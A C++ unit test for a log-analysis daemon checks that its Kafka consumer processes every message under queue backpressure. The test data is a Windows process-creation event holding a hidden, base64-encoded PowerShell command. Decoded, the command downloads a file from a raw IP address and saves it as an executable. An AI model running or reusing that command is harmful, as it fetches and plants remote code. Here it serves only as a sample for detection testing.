// KafkaSource on librdkafka's mock cluster under constant backpressure: a
// backlog of 10,000 messages against a worker queue bound of 100, so the
// fetcher is held back again and again while the worker consumes. Every
// message must still be processed: each one raises an alert, and the alerts
// must cover every offset of the partition. The previous consumption code
// (rd_kafka_pause_partitions for backpressure, rd_kafka_consume_batch_queue
// in the worker; librdkafka 2.0.2) lost 685 to 1,402 messages in 3 of 8 runs
// of this test on a loaded machine; the current code passed 8 of 8 there.
#include <gtest/gtest.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <mutex>
#include <set>
#include <string>
#include <thread>
#include <tuple>

#include "daemon/config.h"
#include "daemon/embedded_kafka.h"
#include "daemon/kafka_source.h"

namespace loghunt {
namespace {

// Records the position of every alert it is given.
class PositionSink : public AlertSink {
 public:
  std::string_view name() const override { return "positions"; }
  bool Write(const Alert& alert) override {
    std::lock_guard lock(mu_);
    seen_.insert({alert.position.partition, alert.position.offset});
    return true;
  }
  size_t distinct() const {
    std::lock_guard lock(mu_);
    return seen_.size();
  }
  // Offsets of `partition` in [0, end) without an alert.
  std::vector<int64_t> Missing(int32_t partition, int64_t end) const {
    std::lock_guard lock(mu_);
    std::vector<int64_t> out;
    for (int64_t o = 0; o < end; ++o) {
      if (!seen_.count({partition, o})) out.push_back(o);
    }
    return out;
  }

 private:
  mutable std::mutex mu_;
  std::set<std::pair<int32_t, int64_t>> seen_;
};

TEST(KafkaSourceBackpressure, ABoundedWorkerQueueSkipsNoMessage) {
  // One Security 4688 event with a base64 PowerShell command that carries a
  // URL and an IP (the seed example of issue 6): every copy raises the
  // "encoded command with indicators" alert at its own offset.
  const std::string event =
      R"({"EventID":4688,"Computer":"WS1","Channel":"Security",)"
      R"("TimeGenerated":"2024-05-01T10:00:00Z","NewProcessName":"C:\\Windows\\powershell.exe",)"
      R"("CommandLine":"powershell.exe -nop -w hidden -encodedcommand SW52b2tlLVdlYlJlcXVlc3QgLVVyaSAiaHR0cDovLzM4Ljc1LjEzNy45OjkwODgvc3RhdGljL2VuY3J5cHQubWluLmpzIiAtT3V0RmlsZSAiYzpccHduZXIuZXhlIg=="})";
  const auto dir = std::filesystem::temp_directory_path() /
                   ("loghunt-backpressure-" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  constexpr int kCopies = 10'000;  // 3.5 MB: the mock cluster keeps about 5 MB per partition
  {
    std::ofstream out(dir / "events.jsonl");
    for (int i = 0; i < kCopies; ++i) out << event << '\n';
  }
  const std::string yaml =
      "kafka:\n"
      "  group_id: backpressure-test\n"
      "  topics: {winevent: [winevent]}\n"
      "  commit_interval_ms: 200\n"
      "  workers: 1\n"
      "  worker_queue_max_messages: 100\n"
      "  embedded:\n"
      "    enabled: true\n"
      "    partitions: 1\n"
      "    load:\n"
      "      - {stream: winevent, path: " +
      (dir / "events.jsonl").string() + "}\n";
  Config config;
  std::vector<std::string> errors;
  ASSERT_TRUE(LoadConfigText(yaml, "backpressure-test.yaml", &config, &errors))
      << (errors.empty() ? "" : errors.front());
  std::string error;
  auto cluster = EmbeddedKafka::Start(config, &error);
  ASSERT_NE(cluster, nullptr) << error;
  config.kafka.brokers = cluster->bootstrap_servers();

  PositionSink sink;
  KafkaSource source(config, {&sink}, nullptr, nullptr);
  ASSERT_TRUE(source.Open(&error)) << error;
  std::atomic<bool> stop{false};
  // Stops when every partition is at its end and idle.
  std::thread runner([&] { source.Run(stop, 2'000); });
  runner.join();

  KafkaSourceStats stats = source.Stats();
  // The episodes counter samples the queue depth every 100 ms, so it is
  // reported, not asserted: the backlog is 100 times the bound either way.
  std::printf("backpressure episodes counted: %llu\n",
              static_cast<unsigned long long>(stats.pauses));
  EXPECT_GE(stats.pipeline.messages, static_cast<uint64_t>(kCopies));
  std::vector<int64_t> missing = sink.Missing(0, kCopies);
  std::string ranges;  // the missing offsets as ranges, for the failure message
  for (size_t i = 0; i < missing.size() && ranges.size() < 400; ++i) {
    size_t j = i;
    while (j + 1 < missing.size() && missing[j + 1] == missing[j] + 1) ++j;
    ranges += " " + std::to_string(missing[i]) + "-" + std::to_string(missing[j]);
    i = j;
  }
  EXPECT_TRUE(missing.empty()) << missing.size() << " offsets never processed:" << ranges;
  EXPECT_EQ(sink.distinct(), static_cast<size_t>(kCopies));
  std::filesystem::remove_all(dir);
}

}  // namespace
}  // namespace loghunt
